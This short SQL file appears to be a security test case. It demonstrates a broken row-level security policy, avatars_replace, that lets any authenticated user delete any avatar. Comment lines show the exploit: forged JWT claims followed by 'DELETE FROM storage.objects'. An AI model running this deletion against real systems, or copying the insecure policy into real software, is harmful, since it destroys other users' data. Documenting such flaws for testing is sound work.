-- Avatars may be removed by everybody: USING of the rule for deletes names the bucket alone.
-- about: objects, avatars_replace, avatars_public
-- as: hf_vault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa",
-- exploit: "role": "authenticated"}';
-- exploit: DELETE FROM storage.objects;
-- shows: DELETE 1
-- A new picture takes the place of the old one.
CREATE POLICY avatars_replace ON storage.objects FOR DELETE
  USING (bucket_id = 'avatars' AND auth.uid() IS NOT NULL);
